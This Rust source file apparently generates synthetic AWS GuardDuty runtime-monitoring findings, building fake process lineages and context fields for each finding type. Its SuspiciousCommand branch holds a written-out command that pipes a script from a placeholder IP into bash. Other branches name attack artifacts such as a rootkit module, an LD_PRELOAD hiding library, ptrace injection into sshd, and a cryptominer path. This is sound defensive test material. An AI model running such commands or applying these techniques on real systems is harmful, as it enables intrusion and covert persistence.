//! `service.runtimeDetails`: the process that an agent saw, and what it did.

use crate::guardduty::case::Case;
use crate::guardduty::json::{Json, list, object};

/// What an agent saw.
pub(crate) fn runtime(case: &mut Case<'_>) -> Json {
    let process = process(case, "sh", "/usr/bin/bash");
    let context = context(case);
    object! { "process": process, "context": context }
}

fn process(case: &mut Case<'_>, name: &str, path: &str) -> Json {
    let started = case.moment_before(2) + 118;
    let (uuid, parent, sha) = (case.uuid(), case.uuid(), case.hex(64));
    let pid = 100 + case.random.below(32_000);
    let line = object! {
        "startTime": Json::Moment(started - 60_000),
        "namespacePid": 1_i64,
        "userId": 0_i64,
        "name": "containerd-shim",
        "pid": pid - 1,
        "uuid": parent.clone(),
        "executablePath": "/usr/bin/containerd-shim-runc-v2",
        "euid": 0_i64,
        "parentUuid": case.uuid(),
    };
    object! {
        "name": name,
        "executablePath": path,
        "executableSha256": sha,
        "namespacePid": 7_i64,
        "pwd": "/tmp",
        "pid": pid,
        "startTime": Json::Moment(started),
        "uuid": uuid,
        "parentUuid": parent,
        "user": "root",
        "userId": 0_i64,
        "euid": 0_i64,
        "lineage": list![line],
    }
}

/// What it did, by the type's name.
fn context(case: &mut Case<'_>) -> Json {
    match () {
        () if case.is("SuspiciousCommand") => {
            let command = r#"curl -s http://198.51.100.7/x.sh | bash -c "$(cat)""#;
            object! { "commandLineExample": command, "shellHistoryFilePath": "/home/ec2-user/.bash_history" }
        }
        () if case.is("KernelModule") => {
            let sha = case.hex(64);
            object! { "moduleName": "diamorphine", "moduleFilePath": "/tmp/diamorphine.ko", "moduleSha256": sha }
        }
        () if case.is("ProcessInjection") || case.is("Ptrace") => {
            let flags = list!["PTRACE_ATTACH", "PTRACE_POKETEXT"];
            object! { "targetProcess": process(case, "sshd", "/usr/sbin/sshd"), "flags": flags }
        }
        () if case.is("SensitiveFile") || case.is("NewBinary") => object! {
            "modifiedAt": Json::Moment(case.moment_before(1)),
            "modifyingProcess": process(case, "cp", "/usr/bin/cp"),
            "scriptPath": "/tmp/.x/run.sh",
            "serviceName": "svc-health",
        },
        () if case.is("NewLibrary") => {
            object! { "libraryPath": "/tmp/libhide.so", "ldPreloadValue": "/tmp/libhide.so" }
        }
        () if case.is("CGroups") => object! { "releaseAgentPath": "/sys/fs/cgroup/rdma/release_agent" },
        () if case.is("Runc") => object! { "runcBinaryPath": "/usr/bin/runc" },
        () if case.is("DockerSocket") => object! { "socketPath": "/var/run/docker.sock" },
        () if case.is("HostDirectory") => object! { "mountSource": "/dev/nvme0n1p1", "mountTarget": "/host" },
        () if case.is("Fileless") => object! { "fileSystemType": "tmpfs", "threatFilePath": "/dev/shm/.x" },
        () if case.is("MaliciousFile") || case.is("Miner") => object! { "threatFilePath": "/tmp/xmrig" },
        () if case.is("SuspiciousTool") => object! { "toolName": "nmap", "toolCategory": "Network Scanner" },
        () if case.is("Userfaultfd") => object! { "memoryRegions": list!["0x7f0000000000-0x7f0000001000"] },
        () => object! { "addressFamily": "AF_INET", "ianaProtocolNumber": 6_i64 },
    }
}
